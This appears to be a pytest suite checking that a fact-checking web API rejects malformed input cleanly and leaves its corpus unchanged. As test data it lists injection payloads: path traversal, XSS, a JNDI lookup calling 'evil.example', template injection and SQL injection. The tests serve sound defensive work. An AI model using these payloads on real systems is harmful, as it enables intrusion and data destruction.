"""The bad-input catalogue: every hostile or malformed request gets a clear 4xx JSON error or a correct result,
never a 500, and never a partial write (the corpus is unchanged after every rejected request)."""

from __future__ import annotations

import json

import pytest
from fastapi.testclient import TestClient

from service.http.app import create_app
from service.bootstrap import open_factchecker
from service.settings import Settings
from tests.support import sql
from tests.support.fakes import HashingEmbedder

LIMIT = 2_000_000  # the default FACTCHECK_MAX_TEXT_BYTES


@pytest.fixture(scope="module")
def app_client(tmp_path_factory):
    data = tmp_path_factory.mktemp("bad-input")
    settings = Settings(data_dir=data / "data", _env_file=None, rate_limit_per_minute=0, max_claims_per_document=200)
    checker = open_factchecker(settings, embedder=HashingEmbedder())
    with TestClient(create_app(settings, checker), raise_server_exceptions=False) as client:
        client.root = data
        yield client


def corpus_state(client) -> tuple:
    checker = client.app.state.checker
    counts = tuple(sql(checker, f"SELECT COUNT(*) FROM {t}")[0][0]
                   for t in ("documents", "claims", "evidence", "verdict_history", "claim_keys"))
    return counts + (client.app.state.checker.vectors.count(),)


def assert_error(response, status: int | tuple[int, ...], code: str | None = None) -> dict:
    statuses = status if isinstance(status, tuple) else (status,)
    assert response.status_code in statuses, response.text[:500]
    assert response.headers["content-type"].startswith("application/json")
    body = response.json()
    assert set(body) == {"error"} and set(body["error"]) == {"code", "message"}, body
    assert body["error"]["message"]
    if code:
        assert body["error"]["code"] == code, body
    return body


def post_raw(client, path: str, content: bytes, content_type: str = "application/json"):
    return client.post(path, content=content, headers={"Content-Type": content_type})


def sentences_text(n: int, pad: str = "") -> str:
    return " ".join(f"Firm {i % 97} hired {i} workers in Lyon{pad}." for i in range(n))


# (name, path, raw body, expected status(es), expected error code or None)
REJECTED = [
    ("empty text", "/v1/documents", json.dumps({"text": ""}), 422, "empty_text"),
    ("whitespace only", "/v1/documents", json.dumps({"text": " \n\t\u00a0\u2003 \r\n "}), 422, "empty_text"),
    ("only zero-width and NUL", "/v1/documents", json.dumps({"text": "\u200b\u200d\ufeff\x00"}), 422, "empty_text"),
    ("10 MB text", "/v1/documents", json.dumps({"text": "Meta invested $14.3 billion. " * 360_000}), 413, None),
    ("just over the text limit", "/v1/documents", json.dumps({"text": "a" * (LIMIT + 1)}), 413, "text_too_large"),
    ("over the limit in UTF-8 bytes, not chars", "/v1/documents", json.dumps({"text": "ế" * (LIMIT // 3 + 1)}), 413,
     "text_too_large"),
    ("50,000 sentences over the limit", "/v1/documents", json.dumps({"text": sentences_text(50_000, " and Paris")}),
     413, "text_too_large"),
    ("check: 10 MB text", "/v1/check", json.dumps({"text": "x " * 5_000_000}), 413, None),
    ("invalid UTF-8 body", "/v1/documents", b'{"text": "caf\xe9 \xff\xfe"}', (400, 422), None),
    ("binary body", "/v1/documents", bytes(range(256)) * 40, (400, 422), None),
    ("lone surrogate escape", "/v1/documents", b'{"text": "Meta paid \\ud800 $14 billion."}', (400, 422), None),
    ("not JSON", "/v1/documents", b"text=hello", 400, "invalid_json"),
    ("truncated JSON", "/v1/documents", b'{"text": "Meta inv', 400, "invalid_json"),
    ("JSON array", "/v1/documents", json.dumps([{"text": "Meta invested $1 billion."}]), 422, None),
    ("JSON string", "/v1/documents", json.dumps("Meta invested $1 billion."), 422, None),
    ("JSON null", "/v1/documents", b"null", 422, None),
    ("empty body", "/v1/documents", b"", (400, 422), None),
    ("deeply nested JSON", "/v1/documents", b'{"text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", (400, 422), None),
    ("nested object as text", "/v1/documents", json.dumps({"text": {"a": {"b": {"c": "d"}}}}), 422, None),
    ("huge JSON: 200k unknown keys", "/v1/documents",
     json.dumps({"text": "Meta invested $1 billion.", **{f"k{i}": i for i in range(200_000)}}), (413, 422), None),
    ("huge JSON: million-element array", "/v1/documents", json.dumps({"text": [0] * 1_000_000}), (413, 422), None),
    ("text is a number", "/v1/documents", json.dumps({"text": 12345}), 422, None),
    ("text is null", "/v1/documents", json.dumps({"text": None}), 422, None),
    ("text is a list", "/v1/documents", json.dumps({"text": ["Meta", "invested"]}), 422, None),
    ("text is a bool", "/v1/documents", json.dumps({"text": True}), 422, None),
    ("title is an object", "/v1/documents", json.dumps({"text": "Meta invested $1 billion.", "title": {"x": 1}}), 422, None),
    ("title too long", "/v1/documents", json.dumps({"text": "Meta invested $1 billion.", "title": "t" * 501}), 422, None),
    ("missing text", "/v1/documents", json.dumps({"title": "no text"}), 422, None),
    ("unknown field", "/v1/documents", json.dumps({"text": "Meta invested $1 billion.", "verdict": "corroborated"}),
     422, None),
    ("unknown field on check", "/v1/check", json.dumps({"text": "Meta invested $1 billion.", "store": True}), 422, None),
    ("huge number", "/v1/documents", json.dumps({"text": "x"})[:-1].encode() + b', "title": 1' + b"0" * 5000 + b"}",
     (400, 422), None),
    ("NaN literal", "/v1/documents", b'{"text": NaN}', (400, 422), None),
    ("empty check", "/v1/check", json.dumps({"text": "   "}), 422, "empty_text"),
    ("one enormous sentence (82 KB, no sentence end)", "/v1/documents",
     json.dumps({"text": "Meta invested " + ", ".join(f"${i} million in unit {i}" for i in range(3000)) + "."}),
     413, "text_too_complex"),
]


@pytest.mark.parametrize("name,path,body,status,code", REJECTED, ids=[r[0] for r in REJECTED])
def test_rejected_with_4xx_json_and_nothing_written(app_client, name, path, body, status, code):
    before = corpus_state(app_client)
    content = body.encode() if isinstance(body, str) else body
    assert_error(post_raw(app_client, path, content), status, code)
    assert corpus_state(app_client) == before


def test_wrong_content_type_is_415(app_client):
    before = corpus_state(app_client)
    assert_error(post_raw(app_client, "/v1/documents", b"Meta invested $1 billion.", "text/plain"), 415)
    assert_error(app_client.post("/v1/documents", data={"text": "Meta invested $1 billion."}), 415)
    assert corpus_state(app_client) == before


def test_streamed_body_over_the_limit_without_content_length(app_client):
    before = corpus_state(app_client)
    limit = app_client.app.state.checker.settings.body_limit_bytes

    def chunks():
        yield b'{"text": "'
        for _ in range(limit // 65536 + 2):
            yield b"a" * 65536
        yield b'"}'

    r = app_client.post("/v1/documents", content=chunks(), headers={"Content-Type": "application/json"})
    assert_error(r, 413, "payload_too_large")
    assert corpus_state(app_client) == before


ACCEPTED = [
    ("mixed scripts", "Meta đầu tư 14,3 tỷ USD vào Scale AI. Мета инвестировала 14,3 миллиарда долларов. "
     "メタは143億ドルを投資した。 ميتا استثمرت 14.3 مليار دولار. Meta a investi 14,3 milliards de dollars."),
    ("zero-width and control characters", "Meta\u200b invested $14.3\u200d billion in Scale\u00ad AI in 2025.\x07 "
     "Alexandr\ufeff Wang\u202e said the deal\x1b[31m closed in June.\x00 The company has 1,500 staff.\u2028"),
    ("combining and decomposed characters", "Me\u0301ta investit 14,3 milliards de dollars dans Scale AI en 2025. "
     "Le pre\u0301sident a confirme\u0301 l'accord."),
    ("emoji and astral plane", "Meta 🚀 invested $14.3 billion 💰 in Scale AI 𝕏 in 2025. Wang said 👍 it closed."),
    ("one long sentence, under the sentence limit",
     "Meta invested " + ", ".join(f"${i} million in unit {i}" for i in range(600)) + "."),
    ("5,000 sentences", sentences_text(5_000)),
    ("no sentence punctuation", "meta invested fourteen billion dollars in scale ai " * 200),
]


@pytest.mark.parametrize("name,text", ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_odd_but_valid_text_gets_a_correct_report(app_client, name, text):
    r = app_client.post("/v1/documents", json={"text": text, "title": name})
    assert r.status_code == 201, r.text[:500]
    report = r.json()
    stored = report["text"]
    assert "\x00" not in stored
    for claim in report["claims"]:
        assert stored[claim["start"] : claim["end"]] == claim["quote"]
        for ev in claim["evidence"]:
            assert ev["quote"]
    assert len(report["claims"]) <= 200  # max_claims_per_document in this app
    again = app_client.post("/v1/documents", json={"text": text, "title": name})
    assert again.status_code == 200 and again.json()["id"] == report["id"]  # idempotent, not duplicated
    fetched = app_client.get(f"/v1/documents/{report['id']}")
    assert fetched.status_code == 200 and fetched.json()["claims"] == report["claims"]


def test_50000_sentences_split_in_linear_time():
    """The splitter used to copy the whole prefix at every boundary: 50,000 sentences took over an hour."""
    from service.analysis.text import sentences

    assert len(sentences(sentences_text(50_000))) == 50_000


@pytest.mark.integration
def test_50000_sentences_within_the_limit_get_a_capped_report(app_client):
    """About 1.8 MB, under the 2 MB limit: a correct report, claims capped. Minutes of CPU on a busy 2-core box,
    so it is marked integration (deselect with -m 'not integration' for a quick run)."""
    text = sentences_text(50_000)
    assert len(text.encode()) < LIMIT
    r = app_client.post("/v1/documents", json={"text": text})
    assert r.status_code == 201, r.text[:300]
    report = r.json()
    assert 0 < len(report["claims"]) <= 200
    assert all(report["text"][c["start"] : c["end"]] == c["quote"] for c in report["claims"])


HOSTILE_TITLES = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/dev/null",
    "<script>alert('x')</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "'; DROP TABLE documents; --",
]


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_path_and_script_like_titles_are_inert_data(app_client, title):
    before_files = sorted(p.relative_to(app_client.root) for p in app_client.root.rglob("*") if "chroma" not in p.parts)
    text = f"Orange opened {len(title)} shops in Lyon in 2024, its director said on {title[:3]!r}."
    r = app_client.post("/v1/documents", json={"text": text, "title": title, "source": title, "url": title})
    assert r.status_code == 201, r.text[:300]
    assert r.headers["content-type"].startswith("application/json")
    doc_id = r.json()["id"]
    got = app_client.get(f"/v1/documents/{doc_id}").json()
    assert (got["title"], got["source"], got["url"]) == (title, title, title)  # stored verbatim, as data
    listed = app_client.get("/v1/documents", params={"limit": 200}).json()["items"]
    assert any(d["title"] == title for d in listed)
    assert app_client.get("/v1/documents").json()  # the documents table survived the SQL-like title
    after_files = sorted(p.relative_to(app_client.root) for p in app_client.root.rglob("*") if "chroma" not in p.parts)
    new_files = {str(p) for p in after_files} - {str(p) for p in before_files}
    assert all(f.startswith("data") and "passwd" not in f and "system32" not in f for f in new_files), new_files
    assert not any("<script" in r.headers.get(h, "") for h in r.headers)


MISSING = [
    ("GET", "/v1/documents/does-not-exist"),
    ("GET", "/v1/documents/" + "f" * 20),
    ("DELETE", "/v1/documents/does-not-exist"),
    ("GET", "/v1/claims/does-not-exist"),
    ("GET", "/v1/documents/..%2F..%2Fetc%2Fpasswd"),
    ("GET", "/v1/documents/%00"),
    ("GET", "/v1/documents/" + "x" * 8000),
    ("GET", "/v1/claims/%3Cscript%3E"),
    ("GET", "/v1/claims/' OR '1'='1"),
]


@pytest.mark.parametrize("method,path", MISSING)
def test_ids_that_do_not_exist_are_404(app_client, method, path):
    before = corpus_state(app_client)
    r = app_client.request(method, path)
    assert_error(r, 404)
    assert "<script>" not in r.text or r.headers["content-type"].startswith("application/json")
    assert corpus_state(app_client) == before


BAD_QUERIES = [
    "/v1/claims?verdict=bogus",
    "/v1/claims?limit=0",
    "/v1/claims?limit=-5",
    "/v1/claims?limit=100000000000000000000000",
    "/v1/claims?limit=abc",
    "/v1/claims?cursor=abc",
    "/v1/claims?cursor=-1",
    "/v1/claims?cursor=99999999999999999999999999",
    "/v1/claims?checkworthy=maybe",
    "/v1/claims?q=" + "q" * 5000,
    "/v1/documents?limit=201",
    "/v1/documents?cursor=%00",
]


@pytest.mark.parametrize("path", BAD_QUERIES)
def test_bad_query_parameters_are_4xx(app_client, path):
    assert_error(app_client.get(path), 422)


def test_injection_shaped_search_is_plain_text(app_client):
    for q in ["' OR 1=1 --", "%", "_", "\\", "\x00", "ế", "<script>"]:
        r = app_client.get("/v1/claims", params={"q": q})
        assert r.status_code == 200, (q, r.text[:200])
        for item in r.json()["items"]:
            assert q.lower() in (item["text"] + item["quote"]).lower() or q == "\x00"


def test_unknown_routes_and_methods(app_client):
    assert_error(app_client.get("/v1/nope"), 404)
    assert_error(app_client.put("/v1/documents", json={"text": "x"}), 405)
    assert_error(app_client.patch("/v1/claims/x", json={}), 405)
